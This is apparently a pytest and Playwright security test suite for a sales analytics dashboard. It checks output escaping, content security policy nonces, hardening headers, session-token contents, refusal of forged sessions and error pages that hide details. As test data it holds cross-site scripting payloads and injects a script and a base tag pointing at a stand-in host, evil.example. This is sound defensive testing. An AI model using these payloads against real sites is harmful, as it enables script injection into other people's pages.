"""Pages under attack: scripts that come with the data, pages that fail, headers that forbid the rest."""

import re
import sqlite3
from collections.abc import Callable
from pathlib import Path

import httpx
import pytest
from playwright.sync_api import Browser, Page, expect

from core.database import open_database
from core.jobs.prepare import prepare
from core.model_store import open_model_store
from core.settings import Settings
from tests.conftest import RunningServer, ServeFunction
from tests.wire import visitor

ATTACK = "<img src=x onerror=window.hacked=1>"
PAGES = (
    "overview", "explore", "explore&tab=products", "explore&tab=money", "sql", "data", "actions",
    "actions&tab=finance", "actions&tab=marketing", "sales", "churn", "recommendations",
    "recommendations&tab=products", "credit", "predict", "features", "models",
)  # fmt: skip
_SPOILED_PAGE = """
import param
from dashboard.shell import Shell

made = Shell.page

def page(shell):
    found = made(shell)
    with param.edit_constant(found.meta):
        found.meta.description = '"><script>window.hacked = 1</script>'
    return found

Shell.page = page
"""
_IMAGES = """() => {
  let found = 0
  const walk = (root) => {
    for (const element of root.querySelectorAll("*")) {
      if (element.hasAttribute("onerror")) found += 1
      if (element.shadowRoot) walk(element.shadowRoot)
    }
  }
  walk(document)
  return found
}"""
_CANVASES = """() => {
  const found = []
  const walk = (root) => {
    for (const element of root.querySelectorAll("*")) {
      const box = element.getBoundingClientRect()
      const canvas = element.classList.contains("bk-Canvas")
      if (canvas && box.width) found.push([box.x, box.y, box.width, box.height])
      if (element.shadowRoot) walk(element.shadowRoot)
    }
  }
  walk(document)
  return found
}"""


def spoil(file: Path) -> str:
    """Put HTML into every text of the company that people see; the key of one customer."""
    with sqlite3.connect(file) as company:
        company.execute("UPDATE customers SET customerName = ? || ' ' || customerNumber", (ATTACK,))
        company.execute(
            "UPDATE customers SET city = ?, phone = ?, addressLine1 = ?, contactLastName = ?", (ATTACK,) * 4
        )
        company.execute("UPDATE customers SET country = ? || country", (ATTACK,))
        company.execute("UPDATE productlines SET productLine = ? || productLine", (ATTACK,))
        company.execute("UPDATE products SET productLine = ? || productLine", (ATTACK,))
        company.execute(
            "UPDATE products SET productName = ? || productName, productVendor = ?", (ATTACK,) * 2
        )
        company.execute("UPDATE employees SET lastName = ?, firstName = ?, jobTitle = ?", (ATTACK,) * 3)
        company.execute("UPDATE offices SET city = ?, territory = ?", (ATTACK,) * 2)
        company.execute("UPDATE orders SET comments = ?", (ATTACK,))
        company.execute(f'CREATE TABLE "{ATTACK}" ("{ATTACK}" TEXT, n INTEGER)')
        company.execute(f'INSERT INTO "{ATTACK}" VALUES (?, 1), (?, 2)', (ATTACK, ATTACK))
        key = company.execute(
            "SELECT customerNumber FROM orders GROUP BY 1 ORDER BY COUNT(*) DESC"
        ).fetchone()
    company.close()
    return str(key[0])


@pytest.fixture(scope="module")
def hostile(
    serve: ServeFunction, predicted_file: Path, tmp_path_factory: pytest.TempPathFactory
) -> tuple[RunningServer, str]:
    """A company whose data are an attack, with models trained on it; and one of its customers."""
    folder = tmp_path_factory.mktemp("hostile")
    file = folder / "company.sqlite"
    with sqlite3.connect(predicted_file) as old, sqlite3.connect(file) as new:
        old.backup(new)
    old.close()
    new.close()
    customer = spoil(file)
    settings = Settings(database_url=f"sqlite:///{file}", data_dir=folder / "data")
    with open_database(settings.database_url, read_only=False) as database:
        prepare(database, open_model_store(settings, database), past=0)
    return serve(SALES_DATABASE_URL=settings.database_url), customer


def test_html_in_the_data_is_shown_as_text_everywhere(
    hostile: tuple[RunningServer, str], browser: Browser
) -> None:
    """Without the content security policy, so that nothing but the pages themselves protects."""
    server, customer = hostile
    context = browser.new_context(bypass_csp=True, viewport={"width": 1440, "height": 1400})
    page = context.new_page()
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    for slug in (*PAGES, f"customer&id={customer}"):
        page.goto(f"{server.url}/?page={slug}")
        expect(page.get_by_text("As known on").first).to_be_attached(timeout=90_000)
        expect(page.locator('.sd-card[data-state="loading"]:visible')).to_have_count(0, timeout=90_000)
        expect(page.get_by_text(ATTACK).first).to_be_attached(timeout=90_000)
        for left, top, width, height in page.evaluate(_CANVASES)[:4]:
            for across in (0.2, 0.35, 0.5, 0.8):
                for down in (0.2, 0.5, 0.8):
                    page.mouse.move(left + width * across, min(1390, top + height * down))
        assert page.evaluate("window.hacked") is None, slug
        assert page.evaluate(_IMAGES) == 0, slug
    assert not [url for url in asked if url.endswith("/x")]
    context.close()


def test_a_query_result_shows_text(hostile: tuple[RunningServer, str], browser: Browser) -> None:
    server, _ = hostile
    context = browser.new_context(bypass_csp=True, viewport={"width": 1440, "height": 1400})
    page = context.new_page()
    page.goto(f"{server.url}/?page=sql")
    expect(page.locator(".sd-catalogue .empty")).to_have_count(0, timeout=60_000)
    page.locator(".sd-sql .ace_text-input").focus()
    page.keyboard.press("Control+a")
    page.keyboard.insert_text(f'SELECT "{ATTACK}", n FROM "{ATTACK}"')
    page.keyboard.press("Control+Enter")
    expect(page.get_by_role("columnheader", name=ATTACK)).to_be_visible(timeout=60_000)
    expect(page.get_by_role("cell", name=ATTACK)).to_have_count(2)
    assert page.evaluate("window.hacked") is None
    assert page.evaluate(_IMAGES) == 0
    context.close()


def test_pages_work_under_the_policy_and_foreign_scripts_do_not(
    demo_server: RunningServer, watched: Callable[..., Page], browser: Browser
) -> None:
    page = watched(demo_server.url + "/?page=explore")
    expect(page.locator(".bk-Canvas").first).to_be_attached(timeout=60_000)
    context = browser.new_context()
    attacked = context.new_page()
    complaints: list[str] = []
    attacked.on("console", lambda message: complaints.append(message.text))
    attacked.goto(demo_server.url + "/?page=explore")
    expect(attacked.get_by_role("navigation", name="Pages")).to_be_visible(timeout=60_000)
    attacked.evaluate("""() => {
      const script = document.createElement("script")
      script.textContent = "window.hacked = 'inline'"
      document.body.append(script)
      const foreign = document.createElement("script")
      foreign.src = "https://evil.example/x.js"
      document.body.append(foreign)
      const holder = document.createElement("div")
      holder.innerHTML = "<img src='data:,' onerror=\\"window.hacked = 'attribute'\\">"
      document.body.append(holder)
      const base = document.createElement("base")
      base.href = "https://evil.example/"
      document.head.append(base)
    }""")
    expect(attacked.locator("body")).to_contain_text("As known on", timeout=60_000)
    assert attacked.evaluate("window.hacked") is None
    assert attacked.evaluate("document.baseURI").startswith(demo_server.url)
    said = " ".join(complaints)
    assert "evil.example" in said
    assert said.count("Content Security Policy") >= 3
    context.close()


def nonce_of(answer: httpx.Response) -> str:
    policy = dict(
        part.strip().partition(" ")[::2] for part in answer.headers["content-security-policy"].split(";")
    )
    assert "'unsafe-inline'" not in policy["script-src"]
    assert policy["object-src"] == policy["base-uri"] == policy["script-src-attr"] == "'none'"
    assert policy["frame-ancestors"] == "'self'"
    return next(part for part in policy["script-src"].split() if part.startswith("'nonce-"))[7:-1]


@pytest.mark.parametrize("path", ["/", "/embed/key-figures"])
def test_the_nonce_is_new_for_every_page_and_on_every_script_in_it(
    demo_server: RunningServer, path: str
) -> None:
    nonces = set()
    for _ in range(2):
        answer = visitor(demo_server.url).get(path)
        nonce = nonce_of(answer)
        scripts = re.findall(r"<script[^>]*>", answer.text)
        inline = [tag for tag in scripts if " src=" not in tag]
        assert len(inline) > 3
        assert all(tag.startswith(f'<script nonce="{nonce}"') for tag in inline)
        assert all("nonce" not in tag for tag in scripts if tag not in inline), "their address is enough"
        nonces.add(nonce)
    assert len(nonces) == 2


def test_a_script_that_got_into_a_page_by_its_texts_does_not_run(
    serve: ServeFunction, browser: Browser
) -> None:
    """The template of pages does not escape this text: nothing but the missing nonce protects."""
    server = serve(first=_SPOILED_PAGE)
    answer = visitor(server.url).get("/")
    assert "<script>window.hacked = 1</script>" in answer.text
    assert answer.text.count(nonce_of(answer)) == len(re.findall(r"<script nonce=", answer.text)) > 3
    context = browser.new_context()
    page = context.new_page()
    complaints: list[str] = []
    page.on("console", lambda message: complaints.append(message.text))
    page.goto(server.url + "/?page=explore")
    expect(page.locator(".bk-Canvas").first).to_be_attached(timeout=60_000)
    assert page.evaluate("window.hacked") is None
    assert "Content Security Policy" in " ".join(complaints)
    context.close()


@pytest.mark.parametrize("path", ["/", "/readyz", "/no-such-page", "/sign-in"])
def test_every_answer_is_hardened(demo_server: RunningServer, path: str) -> None:
    headers = visitor(demo_server.url).get(path).headers
    assert headers["x-content-type-options"] == "nosniff"
    assert headers["referrer-policy"] == "same-origin"
    assert "camera=()" in headers["permissions-policy"]
    assert "server" not in headers
    assert "strict-transport-security" not in headers, "only where the browser speaks TLS"


def test_session_tokens_hold_no_headers_and_no_cookies(demo_server: RunningServer) -> None:
    from bokeh.util.token import get_token_payload

    from tests.wire import token_of

    client = visitor(demo_server.url, private="a-cookie")
    page = client.get("/", headers={"X-Private": "a-header", "User-Agent": "Tests"}).text
    payload = get_token_payload(token_of(page))
    assert payload["cookies"] == {}
    assert payload["headers"] == {"User-Agent": "Tests"}


def test_a_made_up_session_is_refused(demo_server: RunningServer) -> None:
    """Session ids are signed with the server's secret."""
    from bokeh.util.token import generate_jwt_token, generate_session_id
    from websockets.exceptions import InvalidStatus

    from tests.wire import open_socket

    own = generate_jwt_token(generate_session_id(signed=False), signed=False)
    with pytest.raises(InvalidStatus) as refused:
        open_socket(visitor(demo_server.url), own)
    assert refused.value.response.status_code == 403


def test_a_page_that_fails_says_so_with_a_reference(monkeypatch: pytest.MonkeyPatch) -> None:
    """Neither the browser nor the answer tells how it failed; the log does."""
    import panel as pn

    from dashboard.page import MessagePage
    from dashboard.pages.churn import Churn
    from dashboard.shell import Shell

    def broken(_self: object, _session: object) -> None:
        raise RuntimeError("the secret inside")

    monkeypatch.setattr(Churn, "__init__", broken)
    shell = Shell.__new__(Shell)
    shell.session, shell.stage = object(), pn.Column()  # type: ignore[assignment]
    shell._pages, shell._panels = {}, {}
    shell._make_page("churn")
    assert isinstance(shell._pages["churn"], MessagePage)
    shown = shell._pages["churn"]._shown
    assert len(shown["reference"]) == 8
    assert "secret" not in str(shown)
